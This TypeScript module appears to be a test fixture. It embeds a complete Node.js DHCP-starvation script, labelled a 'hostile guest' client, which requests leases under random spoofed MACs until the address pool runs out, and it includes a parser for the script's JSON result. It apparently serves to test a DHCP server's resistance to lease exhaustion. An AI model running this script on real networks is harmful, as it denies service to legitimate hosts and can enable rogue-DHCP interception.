/**
 * A hostile guest's DHCP client, run inside the guest's namespace (`node starver.mjs <server>
 * <max>`): DISCOVER then REQUEST with a new random MAC each time, until `max` leases are
 * acknowledged or no OFFER comes (the range is exhausted). Prints one JSON line
 * `{ acked, exhausted }`. The guest needs an address (any in its subnet) so that the kernel
 * can send its broadcasts; requests carry the broadcast flag, so replies come back broadcast.
 */
export const STARVER_SCRIPT = `
import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
const [server, maxText, triesText] = process.argv.slice(2);
const max = Number(maxText);
const tries = Number(triesText ?? 3);
const ip = (s) => s.split('.').map(Number);
const socket = createSocket({ type: 'udp4', reuseAddr: true });
await new Promise((resolve) => socket.bind(68, resolve));
socket.setBroadcast(true);
socket.on('error', (error) => {
  console.error(error);
  process.exit(1);
});
const waiters = new Map();
socket.on('message', (m) => {
  if (m.length < 240 || m[0] !== 2) return;
  const waiter = waiters.get(m.readUInt32BE(4));
  if (!waiter) return;
  const options = {};
  for (let at = 240; at < m.length && m[at] !== 255; ) {
    if (m[at] === 0) { at += 1; continue; }
    options[m[at]] = m.subarray(at + 2, at + 2 + m[at + 1]);
    at += 2 + m[at + 1];
  }
  waiter({ type: options[53]?.[0], yiaddr: [...m.subarray(16, 20)].join('.') });
});
function message(type, xid, mac, extra) {
  const head = Buffer.alloc(240);
  head[0] = 1; head[1] = 1; head[2] = 6;
  head.writeUInt32BE(xid, 4);
  head.writeUInt16BE(0x8000, 10);
  mac.copy(head, 28);
  head.writeUInt32BE(0x63825363, 236);
  return Buffer.concat([head, Buffer.from([53, 1, type, ...extra, 255])]);
}
function ask(packet, xid, wanted) {
  return new Promise((resolve) => {
    let sent = 0;
    const send = () => {
      sent += 1;
      socket.send(packet, 67, '255.255.255.255', (error) => {
        if (error) socket.emit('error', error);
      });
    };
    const timer = setInterval(() => (sent >= tries ? done(undefined) : send()), 500);
    const done = (reply) => { clearInterval(timer); waiters.delete(xid); resolve(reply); };
    waiters.set(xid, (reply) => { if (wanted.includes(reply.type)) done(reply); });
    send();
  });
}
let acked = 0;
let exhausted = false;
while (acked < max) {
  const mac = Buffer.concat([Buffer.from([0x02]), randomBytes(5)]);
  const xid = randomBytes(4).readUInt32BE();
  const offer = await ask(message(1, xid, mac, []), xid, [2]);
  if (!offer) { exhausted = true; break; }
  const ack = await ask(
    message(3, xid, mac, [50, 4, ...ip(offer.yiaddr), 54, 4, ...ip(server)]),
    xid,
    [5, 6],
  );
  if (ack?.type === 5) acked += 1;
}
socket.close();
console.log(JSON.stringify({ acked, exhausted }));
`;

export interface StarveResult {
  acked: number;
  exhausted: boolean;
}

export function parseStarveResult(stdout: string): StarveResult {
  const line = stdout.trim().split('\n').at(-1) ?? '';
  return JSON.parse(line) as StarveResult;
}
